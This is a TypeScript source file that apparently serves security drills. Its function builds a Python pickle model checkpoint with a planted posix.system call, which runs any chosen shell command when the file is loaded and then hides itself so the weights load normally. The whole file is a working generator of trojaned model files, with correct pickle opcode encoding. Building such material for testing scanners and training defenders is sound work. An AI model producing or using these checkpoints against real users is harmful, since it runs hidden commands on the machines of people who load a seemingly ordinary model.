// A checkpoint as many models are handed round, a pickle of weights by name, with a call planted in it: whoever loads it runs the
// command and then gets the weights, as if nothing had happened. For drills and demonstrations; nothing here runs anything.
import type { Sha256 } from '#core/digest';
import { sha256 } from '#core/digest';

export interface PlantedCheckpoint {
  /** Pickle, protocol 2. */
  readonly bytes: Uint8Array;
  readonly sha256: Sha256;
}

/**
 * @param weights - by name; they load as lists of numbers
 * @param command - for the shell of whoever loads the file; choose one that does no harm
 * @source Python documentation, pickletools (opcodes); the call is planted as Fickling does it, before the value
 */
export function trojanCheckpoint(weights: Readonly<Record<string, Float32Array>>, command: string): PlantedCheckpoint {
  const parts = [protocol, plantedCall(command), Buffer.from('}(')];
  for (const [name, values] of Object.entries(weights)) parts.push(text(name), numbers(values));
  parts.push(Buffer.from('u.'));
  const bytes = new Uint8Array(Buffer.concat(parts));
  return { bytes, sha256: sha256(bytes) };
}

const protocol = Buffer.from([0x80, 2]);

/** GLOBAL posix.system, the command, TUPLE1, REDUCE, and POP so that no trace of it is left in the value. */
function plantedCall(command: string): Buffer {
  return Buffer.concat([Buffer.from('cposix\nsystem\n'), text(command), Buffer.from([0x85, 0x52, 0x30])]);
}

/** BINUNICODE. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  const head = Buffer.alloc(5);
  head.write('X');
  head.writeUInt32LE(bytes.length, 1);
  return Buffer.concat([head, bytes]);
}

/** EMPTY_LIST, MARK, BINFLOAT each, APPENDS. */
function numbers(values: Float32Array): Buffer {
  const bytes = Buffer.alloc(3 + 9 * values.length);
  bytes.write('](');
  for (let at = 0; at < values.length; at++) {
    bytes.write('G', 2 + 9 * at);
    bytes.writeDoubleBE(values[at] ?? 0, 3 + 9 * at);
  }
  bytes.write('e', bytes.length - 1);
  return bytes;
}
